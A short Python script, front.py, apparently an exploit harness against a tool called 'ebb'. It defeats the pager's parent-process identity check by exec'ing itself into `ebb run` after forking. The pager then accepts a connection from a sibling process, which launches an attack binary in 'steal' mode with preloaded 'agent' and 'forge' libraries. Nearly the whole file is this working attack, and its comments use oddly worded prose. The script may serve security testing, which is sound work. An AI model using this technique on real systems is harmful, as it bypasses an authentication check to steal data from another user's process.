"""A front of an attacker's own: front.py EBB START AGENT FORGE ATTACK FOLDER VICTIM

Starts EBB's pager, sends it the message in the file START, and lets the thief of attack.c be paged by it. A
pager looks who started it, and whether that is the same program. So the process that made the connection, and
is the pager's parent, becomes `ebb run` itself; another one speaks at the other end.
"""

import os
import select
import socket
import subprocess
import sys

ebb, start, agent, forge, attack, folder, victim = sys.argv[1:]


def speak(line):
    """What a front says, and the thief in between."""
    line.send(open(start, "rb").read())
    answer = line.recv(65536)
    if answer != b'"ready"':
        print("not served:", answer.decode(), flush=True)
        return
    environment = dict(
        os.environ, LD_PRELOAD=f"{agent}:{forge}", FORGE_VICTIM=victim,
        EBB_SOCKET=folder + "/socket", EBB_POOL_BYTES=str(16 << 20))
    subprocess.run([attack, "steal", folder, "48"], env=environment, check=False)
    line.send(b'{"ended":0}')
    line.recv(65536)


def become_pager(parent, end):
    """As soon as the parent is `ebb`."""
    while open(f"/proc/{parent}/comm").read() != os.path.basename(ebb) + "\n":
        select.select([], [], [], 0.01)
    os.dup2(end.fileno(), 0)
    os.execv(ebb, [ebb, "__pager"])


# The front is there until nobody has `until` any more: the one who speaks.
ends, until = os.pipe()
own, pagers = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
front = os.getpid()
if os.fork() == 0:
    own.close()
    os.close(until)
    become_pager(front, pagers)
if os.fork() == 0:
    pagers.close()
    speak(own)
    sys.exit(0)
os.dup2(ends, 0)
os.execv(ebb, [ebb, "run", "--memory-max", "64M", "--report-file", "/dev/null", "--", "cat"])
